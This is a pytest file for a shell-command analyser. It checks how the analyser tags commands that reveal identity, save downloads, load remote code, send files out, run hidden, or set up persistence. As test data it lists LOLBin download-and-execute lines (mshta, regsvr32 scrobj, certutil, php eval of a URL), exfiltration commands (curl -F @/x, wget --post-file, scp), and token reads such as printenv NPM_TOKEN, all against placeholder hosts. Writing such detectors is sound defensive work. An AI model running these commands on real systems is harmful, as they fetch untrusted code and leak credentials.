"""What a program call prints, saves, sends and loads."""

import pytest

from pratique.analysis.facts import Capability, Command, Taint
from pratique.analysis.languages.shell import effects


def command(text: str) -> Command:
    program, *words = text.split()
    return Command(program, tuple(words), 1)


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        ({Taint.IDENTITY}, "whoami"),
        ({Taint.IDENTITY}, "hostname -f"),
        ({Taint.IDENTITY}, "uname -a"),
        (set(), "uname -m"),
        (set(), "id -u"),
        ({Taint.IDENTITY}, "id"),
        ({Taint.ENVIRONMENT}, "env"),
        (set(), "env A=1"),
        ({Taint.ENVIRONMENT, Taint.SECRETS}, "printenv NPM_TOKEN"),
        ({Taint.PROCESS}, "ps aux"),
        (set(), "date"),
    ],
)
def test_output_tells_of_the_machine(expected: set[Taint], text: str) -> None:
    found = command(text)

    assert expected == set(effects.printed(found.program, found.arguments))


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        (["x"], "curl -o x https://a.invalid/y"),
        (["x"], "curl -fsSLo x https://a.invalid/y"),
        (["y"], "curl -O https://a.invalid/y"),
        (["x"], "curl https://a.invalid/y -ox"),
        (["x"], "wget -qO x https://a.invalid/y"),
        (["x"], "wget -Ox https://a.invalid/y"),
        ([], "wget -qO- https://a.invalid/y"),
        ([], "wget -O - https://a.invalid/y"),
        (["x"], "wget -O x https://a.invalid/y -"),
        (["/tmp/y"], "wget -P /tmp https://a.invalid/y"),
        (["/tmp/y"], "curl --output-dir=/tmp -sO https://a.invalid/y"),
        (["y"], "wget https://a.invalid/y?z=1"),
        (["x"], "wget --output-document=x https://a.invalid/"),
        (["m.exe"], "certutil -urlcache -split -f https://a.invalid/y m.exe"),
        (["m.exe"], "bitsadmin /transfer n https://a.invalid/y m.exe"),
        (["m"], "Invoke-WebRequest https://a.invalid/y -OutFile m"),
        ([], "curl https://a.invalid/y"),
        ([], "cat x"),
    ],
)
def test_downloads_are_saved_into_files(expected: list[str], text: str) -> None:
    assert expected == effects.saved(command(text))


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        ("https://a.invalid/x", "mshta https://a.invalid/x"),
        ("https://a.invalid/x.tgz", "npx --yes https://a.invalid/x.tgz"),
        ("https://a.invalid/x.tgz", "npx --package=https://a.invalid/x.tgz run"),
        ("https://a.invalid/x.tgz", "pnpm dlx https://a.invalid/x.tgz"),
        ("https://a.invalid/x.ts", "deno run -A https://a.invalid/x.ts"),
        ("https://a.invalid/x", "php -r \"eval(file_get_contents('https://a.invalid/x'));\""),
        (None, "php -r \"copy('https://a.invalid/x', 'y');\""),
        (None, "npx husky https://a.invalid/x"),
        (None, "npm install https://a.invalid/x"),
        ("https://a.invalid/x", "regsvr32 /s /n /u /i:https://a.invalid/x scrobj.dll"),
        ('javascript:"x"', 'mshta javascript:"x"'),
        (None, "regsvr32 /s x.dll"),
        (None, "curl https://a.invalid/x"),
    ],
)
def test_programs_of_windows_load_what_an_address_holds(expected: str | None, text: str) -> None:
    found = command(text)

    assert expected == effects.remote(found.program, found.arguments)


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        (["/x"], "curl -F f=@/x https://a.invalid"),
        ([], "curl -d @- https://a.invalid"),
        (["/x"], "curl -T /x https://a.invalid"),
        (["/x"], "wget --post-file=/x https://a.invalid"),
        (["/x"], "cat /x"),
        (["/x"], "scp /x a.invalid:"),
        ([], "echo /x"),
    ],
)
def test_files_that_are_read_or_sent_are_told(expected: list[str], text: str) -> None:
    found = command(text)

    assert expected == effects.read_files(found.program, found.arguments)


def test_what_a_file_holds_is_told_by_its_name() -> None:
    assert {Taint.FILE, Taint.SECRETS} == effects.file_taints("~/.npmrc")
    assert set() == effects.file_taints("README.md")


@pytest.mark.parametrize(
    ("expected", "text"),
    [
        ("https://a.invalid", "-d @- https://a.invalid"),
        ("203.0.113.9", "203.0.113.9 4444"),
        ("x", "-l x"),
        (None, "-l"),
    ],
)
def test_the_target_is_the_address_of_a_call(expected: str | None, text: str) -> None:
    assert expected == effects.target(tuple(text.split()))


@pytest.mark.parametrize(
    ("quiet", "text"),
    [
        (True, "powershell -w hidden x"),
        (True, "powershell -WindowStyle Hidden x"),
        (False, "powershell -File x"),
        (False, "node x"),
    ],
)
def test_programs_that_nobody_sees(text: str, *, quiet: bool) -> None:
    assert quiet == effects.starts_quietly(command(text), background=False, silent=False)


def test_words_decide_what_some_programs_do() -> None:
    assert Capability.PERSISTENCE is effects.capability_of("systemctl", ("enable", "x"))
    assert effects.capability_of("systemctl", ("status", "x")) is None


def test_variables_that_name_secrets_or_the_user() -> None:
    assert {Taint.IDENTITY} == effects.expands(("USER",), "$USER")
    assert {Taint.SECRETS} == effects.expands(("NPM_TOKEN",), "$NPM_TOKEN")
    assert set() == effects.expands(("x",), "$x")
